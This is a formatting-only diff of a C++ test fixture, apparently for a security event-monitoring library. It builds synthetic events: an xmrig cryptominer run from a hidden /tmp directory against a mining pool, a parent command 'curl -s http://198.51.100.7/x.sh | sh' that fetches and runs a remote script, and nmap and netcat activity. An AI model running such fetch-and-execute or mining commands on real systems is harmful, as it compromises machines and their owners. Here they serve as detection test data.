@@ -39,20 +39,18 @@ protocol::Event base_event() {
 std::vector<protocol::Event> make_events() {
   std::vector<protocol::Event> events;
   protocol::Event exec = base_event();
-  exec.body = protocol::ProcessExec{"/tmp/.x/xmrig",
-                                    {"xmrig", "-o", "stratum+tcp://pool.example:3333", "*?\\"},
-                                    false,
-                                    "xmrig -o stratum+tcp://pool.example:3333 *?\\",
-                                    "/bin/bash",
-                                    "bash -c curl -s http://198.51.100.7/x.sh | sh"};
+  exec.body = protocol::ProcessExec{
+      "/tmp/.x/xmrig", {"xmrig", "-o", "stratum+tcp://pool.example:3333", "*?\\"},
+      false,           "xmrig -o stratum+tcp://pool.example:3333 *?\\",
+      "/bin/bash",     "bash -c curl -s http://198.51.100.7/x.sh | sh"};
   events.push_back(exec);
   protocol::Event exit = base_event();
   exit.body = protocol::ProcessExit{1, 9, "/usr/bin/nmap"};
   events.push_back(exit);
   protocol::Event connect = base_event();
   connect.workload = {protocol::WorkloadKind::kHost, "host", "", "/"};
-  connect.body = protocol::NetworkConnect{protocol::Transport::kTcp, true, "2001:db8::7", 3333,
-                                          "/usr/bin/nc"};
+  connect.body =
+      protocol::NetworkConnect{protocol::Transport::kTcp, true, "2001:db8::7", 3333, "/usr/bin/nc"};
   events.push_back(connect);
   return events;
 }
